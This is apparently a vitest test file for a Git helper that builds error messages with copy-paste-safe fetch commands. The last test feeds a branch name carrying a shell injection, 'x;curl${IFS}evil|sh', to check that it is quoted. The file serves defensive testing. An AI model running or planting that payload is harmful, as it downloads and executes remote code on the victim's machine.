// Git: the problem of a target comes with the command that helps, in words that are safe to paste.
import { assert, describe, it } from "vitest"
import { targetProblemText } from "../../../src/code/Git.ts"
import { BranchName } from "../../../src/run/Target.ts"

describe("the problem of a target is", () => {
  it("a branch of a remote is fetched to where its name looks for it", () =>
    assert.include(
      targetProblemText({ _tag: "BaseUnresolved", branch: BranchName.make("origin/main"), remote: true }),
      "[git fetch origin main:refs/remotes/origin/main]"
    ))

  it("a branch of a repository without a remote is not fetched", () => {
    const problem = { _tag: "BaseUnresolved", branch: BranchName.make("gone"), remote: false } as const
    const text = "base branch gone cannot be resolved in this repository"
    assert.strictEqual(targetProblemText(problem), `${text} [git branch lists all]`)
    assert.strictEqual(targetProblemText({ ...problem, meant: "done" }), `${text}; did you mean done?`)
  })

  it("a short commit id: the full id is required", () =>
    assert.include(
      targetProblemText({ _tag: "BaseUnresolved", branch: BranchName.make("fac6d1f"), remote: true }),
      "[git fetch origin fac6d1f:fac6d1f; of a commit, use the full id]"
    ))

  it("a branch is one word of the command that fetches it", () =>
    assert.include(
      targetProblemText({ _tag: "BaseUnresolved", branch: BranchName.make("x;curl${IFS}evil|sh"), remote: true }),
      "[git fetch origin 'x;curl${IFS}evil|sh:x;curl${IFS}evil|sh']"
    ))
})
